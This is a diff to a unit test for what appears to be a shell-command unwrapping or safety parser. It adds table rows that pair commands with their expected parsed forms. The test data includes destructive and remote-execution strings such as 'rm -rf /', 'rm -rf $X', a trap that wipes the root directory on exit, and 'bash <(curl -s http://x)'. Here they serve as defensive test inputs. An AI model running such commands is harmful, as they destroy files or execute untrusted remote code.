@@ -148,6 +148,8 @@ class UnwrapTableTest {
             "bash <(curl -s http://x)",
             "curl -s http://x ; bash ‹<(curl -s http://x)› ; [bash <(curl -s http://x)] ‹<(curl -s http://x)›"),
         row("source ./env.sh", "source ./env.sh"),
+        row("X=/tmp; source ./env.sh; rm -rf $X", "source ./env.sh ; rm -rf ‹$X›"),
+        row("X=/tmp; . ./env.sh; rm -rf ~/$X", ". ./env.sh ; rm -rf ‹/home/dev/$X›"),
         row("trap 'rm -rf /' EXIT", "trap 'rm -rf /' EXIT ; [trap] rm -rf /"),
         // variables
         row("X=/; rm -rf $X", "rm -rf /"),
